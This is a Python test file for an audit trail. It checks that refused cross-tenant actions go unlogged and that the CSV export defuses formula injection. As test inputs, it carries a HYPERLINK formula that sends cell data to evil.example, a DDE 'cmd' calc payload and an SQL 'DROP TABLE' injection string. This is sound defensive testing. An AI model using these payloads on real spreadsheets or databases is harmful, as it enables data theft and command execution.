"""The audit trail records what happened, and its CSV export is safe to open."""

from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from litestar.testing import TestClient

from kefal_lite import csvsafe
from tests.builders import as_json, snap
from tests.conftest import EXPOSED_PG, enroll, login, query, register

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _actions(client: TestClient[Any], user: str) -> list[tuple[str, str | None]]:
    rows = query(client.app.state.settings,
                 "SELECT action, target FROM audit WHERE actor = ? ORDER BY id", user)  # fmt: skip
    return [(r[0], r[1]) for r in rows]


def test_cross_tenant_revoke_and_rotate_leave_no_audit_row(
    open_client: TestClient[Any], alice: dict[str, str], bob: dict[str, str]
) -> None:
    """Before: bob's 404 revoke of alice's agent was logged `agent_revoked` in bob's trail."""
    c = open_client
    a = enroll(c, "alice")
    before = _actions(c, "bob")
    for target in (a["agent_id"], "'; DROP TABLE agents;--", HOSTILE):
        assert c.delete(f"/api/v1/agents/{target}", headers=bob).status_code == 404
        assert c.post(f"/api/v1/agents/{target}/rotate-token", headers=bob).status_code == 404
    assert _actions(c, "bob") == before
    assert not query(c.app.state.settings,
                     "SELECT 1 FROM audit WHERE action IN ('agent_revoked', 'agent_token_rotated')")  # fmt: skip
    # the owner's real actions are recorded, once each; rotating a revoked agent is refused
    assert c.post(f"/api/v1/agents/{a['agent_id']}/rotate-token", headers=alice).status_code == 200
    assert c.delete(f"/api/v1/agents/{a['agent_id']}", headers=alice).status_code == 204
    assert c.post(f"/api/v1/agents/{a['agent_id']}/rotate-token", headers=alice).status_code == 409
    trail = [x for x in _actions(c, "alice") if x[0].startswith("agent_")]
    assert trail == [("agent_enrolled", a["agent_id"]), ("agent_token_rotated", a["agent_id"]),
                     ("agent_revoked", a["agent_id"])]  # fmt: skip


def test_every_refused_action_leaves_no_audit_row(
    open_client: TestClient[Any], alice: dict[str, str], bob: dict[str, str]
) -> None:
    """The sweep: each audited action a tenant can aim at another's id, refused, unrecorded."""
    c = open_client
    agent = enroll(c, "alice")
    body = as_json(snap(0, agent_id=agent["agent_id"], add_ports=EXPOSED_PG))
    r = c.post("/api/v1/ingest", content=body,
               headers={"Authorization": f"Bearer {agent['token']}"})  # fmt: skip
    assert r.status_code == 200, r.text
    incident = c.get("/api/v1/incidents", headers=alice).json()["items"][0]["id"]
    channel = c.post("/api/v1/notifications/channels", headers=alice,
                     json={"name": "hook", "url": "json://8.8.8.8/hook"})  # fmt: skip
    before = _actions(c, "bob")
    attempts = [
        ("POST", f"/api/v1/incidents/{incident}/acknowledge"),
        ("POST", f"/api/v1/incidents/{incident}/dismiss"),
        ("POST", f"/api/v1/incidents/{incident}/remediate"),
        ("POST", f"/api/v1/incidents/{incident}/remediation/accept"),
        ("POST", f"/api/v1/incidents/{incident}/remediation/reject"),
        ("POST", f"/api/v1/incidents/{incident}/remediation/applied"),
        ("DELETE", f"/api/v1/agents/{agent['agent_id']}"),
        ("POST", f"/api/v1/agents/{agent['agent_id']}/rotate-token"),
    ]
    assert channel.status_code == 201, channel.text
    attempts.append(("DELETE", f"/api/v1/notifications/channels/{channel.json()['id']}"))
    for method, path in attempts:
        assert c.request(method, path, headers=bob).status_code == 404, path
    assert _actions(c, "bob") == before
    # refused transitions of one's own objects are not recorded either
    assert c.post(f"/api/v1/incidents/{incident}/acknowledge", headers=alice).status_code == 200
    assert c.post(f"/api/v1/incidents/{incident}/acknowledge", headers=alice).status_code == 409
    acks = [x for x in _actions(c, "alice") if x[0] == "incident_acknowledged"]
    assert acks == [("incident_acknowledged", incident)]


def test_audit_csv_export_defuses_a_formula_username(
    client: TestClient[Any],
) -> None:
    """Before: a failed login as `=HYPERLINK(...)` went into the export verbatim."""
    register(client, "alice")
    admin = login(client, "alice")
    for name in (HOSTILE, " +cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1"):
        r = client.post("/auth/login", json={"username": name, "password": "x" * 12})
        assert r.status_code == 401
    export = client.get("/api/v1/admin/audit?format=csv", headers=admin)
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text, newline="")))
    actors = [row[2] for row in rows[1:]]
    assert "'" + HOSTILE in actors and "'@SUM(1)" in actors and "'\t=1+1" in actors
    assert "' +cmd|' /C calc'!A0" in actors
    for row in rows:
        for value in row:
            assert not value.lstrip() or value.lstrip()[0] not in csvsafe.FORMULA, value
    # the JSON view is data, not a spreadsheet: it keeps the text as it came
    items = client.get("/api/v1/admin/audit?action=login_failed", headers=admin).json()["items"]
    assert HOSTILE in [i["actor"] for i in items]


cells = st.text(max_size=40) | st.sampled_from(
    ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\u3000=1", "＝1", "|cmd", "'=1", ""]
).flatmap(lambda v: st.builds(lambda s: v + s, st.text(max_size=5)))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(cells, min_size=7, max_size=7), max_size=6))
def test_no_exported_cell_starts_a_formula_and_the_csv_round_trips(
    rows: list[list[str]],
) -> None:
    header = ["at", "user_id", "actor", "action", "target", "client", "detail"]
    text = csvsafe.write(header, rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == header
    assert len(parsed) == len(rows) + 1
    for original, exported in zip(rows, parsed[1:], strict=True):
        assert len(exported) == 7
        for value, out in zip(original, exported, strict=True):
            # exactly the value, or the value behind one `'` when it could start a formula
            assert out == value or out == "'" + value
            assert not out or out[0] not in csvsafe.LEADING
            first = out.lstrip()[:1]
            assert first not in csvsafe.FORMULA or first == ""
            if out != value:
                assert value[0] in csvsafe.LEADING or value.lstrip()[0] in csvsafe.FORMULA
